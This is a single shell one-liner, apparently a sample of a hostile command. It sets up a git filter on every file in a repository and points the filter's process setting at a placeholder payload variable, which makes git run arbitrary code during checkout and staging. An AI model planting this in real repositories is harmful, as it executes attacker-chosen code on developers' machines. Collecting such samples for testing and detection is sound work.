echo '* filter=x' > .gitattributes && git config filter.x.process "$EVIL"
